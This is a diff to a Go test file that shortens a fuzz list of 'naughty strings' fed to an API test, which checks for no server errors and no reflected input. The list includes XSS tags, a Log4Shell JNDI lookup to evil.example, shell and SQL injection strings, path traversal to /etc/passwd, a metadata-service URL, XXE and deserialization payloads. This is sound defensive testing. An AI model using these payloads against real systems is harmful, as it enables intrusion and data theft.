@@ -111,25 +111,16 @@ func TestT34T35T66T105Scopes(t *testing.T) {
 
 // naughty are strings that have broken some program somewhere.
 var naughty = []string{
-	"undefined", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "None", "hasOwnProperty", "then", "constructor",
-	"\\", "\\\\", "0", "1", "-1", "1.00", "$1.00", "1/2", "1E2", "1E02", "-0", "+0.0", "0/0", "0.0/0", "1/0", "NaN", "Infinity",
-	"-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00", "1 000.00", "01000", "08", "2.2250738585072011e-308",
-	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "ЁЂЃЄЅІЇЈЉЊ", "٠١٢٣٤٥٦٧٨٩", "⁰⁴⁵₀₁₂",
-	"ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "''", "\"\"", "'\"'", "\"''''\"'\"", "田中さんにあげて下さい", "パーティーへ行かないか", "社會科學院語學研究所", "찦차를 타고 온",
-	"ﬁ", "İ", "ı", "ſ", "K", "ﬀ", "ß", "ẞ", "œ", "Å", "é", "e\u0301", "(╯°□°）╯︵ ┻━┻", "😍", "👩🏽", "👾 🙇 💁 🙅", "👨‍👩‍👦", "🇺🇸🇷🇺", "🇺🇸🇷", "１２３", "١٢٣",
-	"ثم نفس سقطت", "בְּרֵאשִׁית", "הָיְתָהtestالصفحات", "﷽", "ﷺ", "\u202etest\u202e", "\u202btest", "\u2066test\u2067", "\u200b", "\ufeff", "\ufffe", "\u00ad",
-	"\u2028", "\u2029", "\u0085", "\u00a0", "\u1680", "\u3000", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "˙ɐnbᴉlɐ ɐuƃɐɯ", "𝐓𝐡𝐞", "𝕿𝖍𝖊", "⒯⒣⒠", "\U0010ffff", "\U000e0001",
-	"<script>alert(1)</script>", "&lt;script&gt;", "<img src=x onerror=alert(1)>", "</textarea><script>", "\"><script>alert(1)</script>", "' onmouseover=alert(1)",
-	"javascript:alert(1)", "data:text/html,<script>", "<svg/onload=alert(1)>", "<a href=\"\\x0Bjavascript:x\">", "${7*7}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}",
-	"{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "{$HOME}", "%{(#a)}", "%s%s%s%s%n", "%x", "%d", "%p", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd", "&& id",
-	"1;DROP TABLE clients", "1'; DROP TABLE clients-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "'; EXEC sp_MSForEachTable", "%", "_", "\\' OR 1=1", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "{$gt:''}",
-	"../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "/dev/null; touch x", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example", "CON", "PRN", "AUX", "NUL.txt", "C:\\", "\\\\?\\",
-	"<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>", "() { 0; }; touch x", "Kernel.exit(1)", "System(\"ls\")", "eval(\"puts\")", "__import__('os')", "java.lang.Runtime", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system",
-	"basic", "Bearer eyJhbGciOiJub25lIn0.e30.", "If you're reading this", "Scunthorpe", "Craig Cockburn", "Linda Callahan", "Dr. Herman I. Libshitz", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "+1", "\"\"\"", "'''", "[]", "{}", "[object Object]", "function(){}",
-	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900), strings.Repeat("a ", 200),
+	"undefined", "null", "true", "None", "hasOwnProperty", "constructor", "\\", "0", "-1", "1E02", "0/0", "NaN", "-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00",
+	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "٠١٢٣٤٥٦٧٨٩", "ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "社會科學院語學研究所", "ﬁ", "İ", "ſ", "K", "ß", "e\u0301", "👩🏽", "👨‍👩‍👦", "🇺🇸🇷", "１２３", "﷽",
+	"\u202etest\u202e", "\u200b", "\ufeff", "\ufffe", "\u2028", "\u0085", "\u00a0", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "\U0010ffff", "<script>alert(1)</script>", "&lt;script&gt;", "\"><script>alert(1)</script>", "javascript:alert(1)",
+	"${7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "%s%s%s%s%n", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd",
+	"1'; DROP TABLE clients-- 1", "' OR '1'='1", "%", "_", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "../../../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/", "CON", "\\\\?\\",
+	"() { 0; }; touch x", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system", "Bearer eyJhbGciOiJub25lIn0.e30.", "Scunthorpe", "=cmd|' /C calc'!A0", "+1", "[]", "{}", "[object Object]",
+	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900),
 }
 
-// TestT40NaughtyStrings: 515 naughty strings in each text parameter → no 5xx, and nothing reflected.
+// TestT40NaughtyStrings: a hundred naughty strings in each text parameter → no 5xx, and nothing reflected.
 func TestT40NaughtyStrings(t *testing.T) {
 	d := openDoor(t, patient)
 	d.decisions(t)
